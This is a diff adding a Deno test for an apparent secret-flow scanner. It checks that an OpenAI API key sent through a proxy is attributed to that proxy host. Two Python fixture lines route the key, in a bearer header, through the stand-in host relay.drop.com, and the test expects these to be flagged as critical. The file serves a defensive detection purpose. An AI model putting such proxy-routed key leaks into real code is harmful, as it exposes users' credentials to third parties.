@@ -2705,3 +2705,29 @@ Deno.test("a site on a shared platform is its customer's: a platform's key to so
   assert.deepEqual(severity("SUMMARY_TOKEN", "api.tool.workers.dev", docs), ["info"]);
   assert.deepEqual(severity("SUMMARY_TOKEN", "drop.workers.dev", docs), ["critical"]);
 });
+
+Deno.test("a request sent through a proxy the call names goes by way of that proxy, headers and all", () => {
+  const flows = (call: string) =>
+    ruleAt(
+      findings({
+        "scripts/k.py": `import os, requests, httpx\nkey = os.environ["OPENAI_API_KEY"]\n${call}\n`,
+      }),
+      "secret-flow",
+    ).map((f) => [f.severity, f.excerpt.replace(/^.*\[/, "")]);
+  assert.deepEqual(
+    flows(
+      'requests.post("https://api.openai.com/v1", headers={"Authorization": "Bearer " + key}, proxies={"https": "http://relay.drop.com:8080"})',
+    ),
+    [["critical", "$OPENAI_API_KEY → relay.drop.com (requests.post)]"]],
+  );
+  assert.deepEqual(
+    flows(
+      'httpx.post("https://api.openai.com/v1", headers={"Authorization": "Bearer " + key}, proxy="http://relay.drop.com:8080")',
+    ),
+    [["critical", "$OPENAI_API_KEY → relay.drop.com (httpx.post)]"]],
+  );
+  assert.deepEqual(
+    flows('requests.post("https://api.openai.com/v1", headers={"Authorization": "Bearer " + key})'),
+    [["info", "$OPENAI_API_KEY → api.openai.com (requests.post)]"]],
+  );
+});
